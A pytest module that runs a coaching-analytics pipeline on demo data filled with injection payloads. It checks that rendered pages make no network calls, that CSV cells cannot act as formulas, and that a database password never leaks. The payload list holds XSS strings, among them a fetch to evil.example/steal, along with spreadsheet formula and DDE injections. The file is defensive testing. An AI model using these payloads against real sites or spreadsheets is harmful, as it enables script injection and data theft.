"""Hostile data end to end: a team whose names, accounts, observables, rubric labels and report title
hold Markdown links and images, HTML, script and formulas, run through the real notebooks.

* every rendered page opens in headless Chromium without a single request leaving file:/data:, and
  holds no javascript: link; the payloads show up as text;
* the deck's PPTX, the coaching plan CSV and the run folder's file names stay harmless;
* the same inputs give byte-identical findings, plan and Parquet artifacts;
* every file respects the umask;
* notebooks run by hand (papermill CLI and API) write into a scratch folder, never into the run;
* a database URL with a malformed password never reaches any file the run wrote.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import shutil
import stat
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
import yaml

from coaching_roi import config, demo, pipeline
from coaching_roi.errors import WorkbookError
from coaching_roi.paths import PROJECT_ROOT

pytestmark = [pytest.mark.notebook, pytest.mark.xdist_group("hostile")]

PAYLOADS = [
    "[click me](javascript:alert(1))",
    "![tracker](http://evil.example/pixel.png)",
    '<img src="http://evil.example/x.png" onerror="alert(1)">',
    "<script>fetch('http://evil.example/steal')</script>",
    '<a href="javascript:alert(1)">Jane</a>',
    "[ref][1]\n\n[1]: http://evil.example/ref",
    "<svg onload=alert(1)><image href='http://evil.example/s.png'/></svg>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<iframe src=//evil.example></iframe>",
    "$5 vs $6 \\frac{1}{0}",
    "Bell\x07 ESC\x1b[31m red",
    '=HYPERLINK("http://evil.example","Jane")',
    "<https://evil.example/autolink>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
NAME = "hostile"


def _hostile_data(root: Path) -> tuple[Path, Path]:
    """The small demo team with every free-text column and the rubric labels replaced by payloads."""
    data = root / "data"
    demo.generate(data, seed=11, size=demo.DemoSize.small(), inject_errors=False)

    def bend(table: str, col: str) -> None:
        df = pd.read_csv(data / f"{table}.csv", dtype=str, keep_default_na=False)
        df[col] = [f"{PAYLOADS[i % len(PAYLOADS)]} #{i}" if v != "" else v for i, v in enumerate(df[col])]
        df.to_csv(data / f"{table}.csv", index=False)

    for table, col in (("reps", "rep_name"), ("reps", "team"), ("opportunities", "account"),
                       ("opportunities", "segment"), ("coaching_sessions", "observable"),
                       ("coaching_sessions", "program")):
        bend(table, col)
    rubric = config.load_defaults()["rubric"]
    behaviors = [{**b, "label": f"{PAYLOADS[i % len(PAYLOADS)]} {b['label']}"} for i, b in enumerate(rubric["behaviors"])]
    params = root / f"{NAME}.yaml"
    params.write_text(yaml.safe_dump({
        "quarter": "2026Q3", "name": NAME, "data_dir": str(data),
        "overrides": {"rubric": {"behaviors": behaviors},
                      "report": {"title": PAYLOADS[0], "company": PAYLOADS[2], "pdf": False},
                      "analysis": {"n_bootstrap": 200}},
    }), encoding="utf-8")
    return data, params


@pytest.fixture(scope="session")  # session: xdist may interleave modules on a worker
def hostile(tmp_path_factory):
    """Two runs of the same hostile inputs, into two outputs roots."""
    root = tmp_path_factory.mktemp("hostile")
    data, params = _hostile_data(root)
    runs = [pipeline.run(params, outputs_root=root / f"outputs{i}", progress=lambda s: None) for i in (1, 2)]
    return root, data, params, runs


# --------------------------------------------------------------------------- pages and links
class _Refs(HTMLParser):
    URL_ATTRS = {"href", "src", "action", "formaction", "poster", "srcset", "data", "xlink:href", "background"}

    def __init__(self) -> None:
        super().__init__()
        self.refs: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.lower() in self.URL_ATTRS and value is not None:
                self.refs.append((tag, name, value))


def test_pages_link_only_to_local_files_and_never_to_javascript(hostile):
    _, _, _, runs = hostile
    pages = sorted(runs[0].run_dir.glob("*.html"))
    assert {p.name for p in pages} >= {"index.html", "qbr_deck.html", "01_data_intake.html", "05_qbr_slides.html"}
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert re.search(r'http-equiv="Content-Security-Policy"[^>]*default-src .none.|'
                         r"default-src 'none'[^>]*http-equiv=\"Content-Security-Policy\"", text), page.name
        parser = _Refs()
        parser.feed(text)
        for tag, attr, value in parser.refs:
            v = value.strip().lower()
            assert not v.startswith(("javascript:", "vbscript:", "http:", "https:", "//", "file:")), (page.name, tag, attr, value)
            assert v.startswith(("data:", "#")) or re.fullmatch(r"[a-z0-9_./-]+", v), (page.name, tag, attr, value)


def test_rendered_pages_make_no_network_request_in_chromium(hostile):
    from coaching_roi import deck

    exe = deck.find_chromium()
    if exe is None:
        pytest.skip("no Chromium found (install chromium, or set COACHING_ROI_CHROMIUM)")
    from playwright.sync_api import sync_playwright

    _, _, _, runs = hostile
    pages = sorted(runs[0].run_dir.glob("*.html"))
    requests: list[str] = []
    dialogs: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=exe, args=[
            "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
            "--no-first-run"])
        try:
            for page_path in pages:
                page = browser.new_page()
                page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))

                def _record(route, request):
                    requests.append(request.url)
                    if request.url.startswith(("file:", "data:")):
                        route.continue_()
                    else:
                        route.abort()

                page.route("**/*", _record)
                page.goto(page_path.resolve().as_uri(), wait_until="load")
                page.wait_for_timeout(300)
                js_links = page.eval_on_selector_all(
                    "a[href], area[href]", "els => els.map(e => e.href).filter(h => !/^(file|data):/.test(h))")
                assert js_links == [], (page_path.name, js_links)
                if page_path.name in ("qbr_deck.html", "04_coaching_plan.html", "index.html"):
                    assert "javascript:alert(1)" in page.inner_text("body"), page_path.name  # shown as text
                page.close()
        finally:
            browser.close()
    leaving = [u for u in requests if not u.startswith(("file:", "data:"))]
    assert leaving == [], leaving
    assert any(u.startswith("file:") for u in requests)  # the interception did see the pages load
    assert dialogs == []  # no payload script ran


def test_deck_pptx_and_plan_csv_hold_the_payloads_as_text(hostile):
    from pptx import Presentation

    _, _, _, runs = hostile
    run = runs[0].run_dir
    prs = Presentation(str(run / "qbr_deck.pptx"))
    texts = " ".join(sh.text_frame.text for s in prs.slides for sh in s.shapes if sh.has_text_frame)
    assert "javascript:alert(1)" in texts and "\x07" not in texts
    with open(run / "coaching_plan.csv", newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not re.fullmatch(r"-[\d.]+", c))]
    assert risky == [], risky[:5]


def test_run_folder_file_names_never_come_from_the_data(hostile):
    _, _, _, runs = hostile
    for p in runs[0].run_dir.rglob("*"):
        assert re.fullmatch(r"[A-Za-z0-9._-]+", p.name), p
        assert "evil" not in p.name and "script" not in p.name


# ------------------------------------------------------------------------------- determinism
def test_same_inputs_give_byte_identical_findings_plan_and_parquet(hostile):
    _, _, _, (a, b) = hostile
    compared = ["findings.json", "coaching_plan.csv",
                *sorted(str(p.relative_to(a.run_dir)) for p in (a.run_dir / "data").glob("*.parquet")),
                *sorted(str(p.relative_to(a.run_dir)) for p in (a.run_dir / "findings").glob("*.json"))]
    assert len(compared) > 10
    for rel in compared:
        assert (a.run_dir / rel).read_bytes() == (b.run_dir / rel).read_bytes(), rel
    found = (a.run_dir / "findings.json").read_text(encoding="utf-8")
    assert "seconds" not in found and str(a.run_dir) not in found
    manifest = json.loads((a.run_dir / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["started_utc"] and all(n["seconds"] is not None for n in manifest["notebooks"])


# ------------------------------------------------------------------------------- permissions
def test_every_file_of_a_real_run_respects_the_umask(hostile):
    _, _, _, runs = hostile
    umask = os.umask(0o022)
    os.umask(umask)
    root = runs[0].run_dir.parent
    for p in [runs[0].run_dir, *runs[0].run_dir.rglob("*"), *root.glob(".*.lock")]:
        want = (0o777 if p.is_dir() else 0o666) & ~umask
        assert stat.S_IMODE(p.stat().st_mode) == want, (p, oct(p.stat().st_mode))


# --------------------------------------------------------------------------------- hand runs
def _tree_digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _first_output_text(nb: dict) -> str:
    for cell in nb["cells"]:
        if cell["cell_type"] == "code" and cell.get("outputs"):
            out = cell["outputs"][0]
            return "".join(out.get("data", {}).get("text/plain", out.get("text", "")))
    return ""


def test_hand_runs_write_to_scratch_and_never_touch_the_run(hostile, tmp_path, monkeypatch):
    import papermill as pm

    _, data, params, runs = hostile
    run = runs[0].run_dir
    root = run.parent
    before = _tree_digest(run)
    monkeypatch.setenv("COACHING_ROI_OUTPUTS", str(root))
    # papermill CLI, with the quarter file's keys (no run_dir): as the README shows it
    out01 = tmp_path / "01.ipynb"
    res = subprocess.run(
        [sys.executable, "-m", "papermill", str(PROJECT_ROOT / "notebooks" / "01_data_intake.ipynb"), str(out01),
         "-f", str(params), "-p", "interactive", "False", "--cwd", str(PROJECT_ROOT / "notebooks")],
        capture_output=True, text=True, env={**os.environ})
    assert res.returncode == 0, res.stderr[-2000:]
    # papermill API, notebook 04 (reads 01 and 02's artifacts of the run)
    pm.execute_notebook(
        str(PROJECT_ROOT / "notebooks" / "04_coaching_plan.ipynb"), str(tmp_path / "04.ipynb"),
        parameters={"quarter": "2026Q3", "name": NAME, "data_dir": str(data), "interactive": False},
        kernel_name="python3", progress_bar=False, cwd=str(PROJECT_ROOT / "notebooks"))
    assert _tree_digest(run) == before  # the quarterly run's folder is untouched, byte for byte
    for stem, nb_path in (("01_data_intake", out01), ("04_coaching_plan", tmp_path / "04.ipynb")):
        scratch = root / "_scratch" / NAME / stem
        first = _first_output_text(json.loads(nb_path.read_text(encoding="utf-8")))
        assert first.startswith("Hand run") and f"_scratch/{NAME}/{stem}" in first, first
        assert (scratch / "findings" / f"{stem}.json").exists()
    assert (root / "_scratch" / NAME / "04_coaching_plan" / "coaching_plan.csv").exists()
    assert (root / "_scratch" / NAME / "01_data_intake" / "data" / "01_reps.parquet").exists()


# ----------------------------------------------------------------------------------- secrets
SECRET_CASES = {
    "unescaped_at": "postgresql+psycopg://analyst:Kq9-Z@rP4ss-W0rdY@127.0.0.1:1/crm",
    "colon_slash_percent": "postgresql+psycopg://analyst:Kq9:Zr%2FP4ss/W0rdY@127.0.0.1:1/crm",
}


@pytest.mark.parametrize("case", list(SECRET_CASES))
def test_database_password_is_in_no_file_the_run_wrote(hostile, tmp_path, monkeypatch, case):
    from urllib.parse import unquote

    _, data, _, _ = hostile
    url = SECRET_CASES[case]
    password = url.split("://analyst:", 1)[1].rsplit("@", 1)[0]
    pieces = {p for form in (password, unquote(password)) for p in re.split(r"[@:/%]+", form) if len(p) >= 3}
    pieces |= {password, unquote(password)}
    monkeypatch.setenv("CRM_URL", url)
    sql_data = tmp_path / "data"
    shutil.copytree(data, sql_data)
    (sql_data / "opportunities.csv").unlink()
    params = tmp_path / "sql.yaml"
    params.write_text(yaml.safe_dump({
        "quarter": "2026Q3", "name": "sql", "data_dir": str(sql_data),
        "sources": {"opportunities": {"format": "sql", "url_env": "CRM_URL", "query": "select * from deals"}},
    }), encoding="utf-8")
    lines: list[str] = []
    with pytest.raises(WorkbookError) as err:
        pipeline.run(params, outputs_root=tmp_path / "outputs", only=["01"], progress=lines.append)
    written = [p for p in (tmp_path / "outputs").rglob("*") if p.is_file()]
    assert any(p.name == "01_data_intake.ipynb" for p in written)  # the failed run did save its files
    texts = {str(p): p.read_bytes().decode("utf-8", "replace") for p in written}
    texts["error"], texts["progress"] = str(err.value), "\n".join(lines)
    for where, text in texts.items():
        leaked = sorted(p for p in pieces if p in text)
        assert leaked == [], (where, leaked)
    assert "analyst:***@127.0.0.1" in str(err.value)
